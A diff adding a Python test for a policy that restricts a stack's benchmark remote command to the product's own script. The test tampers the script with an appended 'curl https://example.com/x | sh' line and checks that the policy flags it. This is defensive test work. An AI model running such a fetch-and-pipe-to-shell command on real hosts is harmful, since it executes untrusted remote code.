@@ -110,6 +110,21 @@ def test_a_remote_command_in_a_stack_without_an_app_is_refused(stacks: dict[str,
         "remote-commands-are-the-products"}
 
 
+def test_the_benchmark_runs_only_when_the_stack_asks_and_only_the_products_script() -> None:
+    """`benchmark: true` allows its one command with the product's script on stdin; nothing else, and not without it."""
+    _, case = run_case(full_config(benchmark=True), stack="bench")
+    bench = _release(case, "-benchmark-run")
+    assert _mandatory(case) == []
+    tampered = _with_inputs(case, bench, stdin=bench.inputs["stdin"] + "\ncurl https://example.com/x | sh\n")
+    ((policy, resource, message),) = _mandatory(tampered)
+    assert policy == "remote-commands-are-the-products" and bench.name in resource
+    assert "a script other than the product's" in message and names_resource_and_fix(message, bench)
+    _, off = run_case(full_config(), stack="bench")
+    stranger = replace(bench, urn=bench.urn, parent="")
+    found = _mandatory(replace(off, resources=[*off.resources, stranger]))
+    assert [p for p, r, _ in found if bench.name in r] == ["remote-commands-are-the-products"]
+
+
 def _stdin_of(files: list[firstboot.HostFile], admin: str) -> str:
     return base64.b64encode(firstboot.bundle(firstboot.FirstBoot(tuple(files), admin))).decode()
 
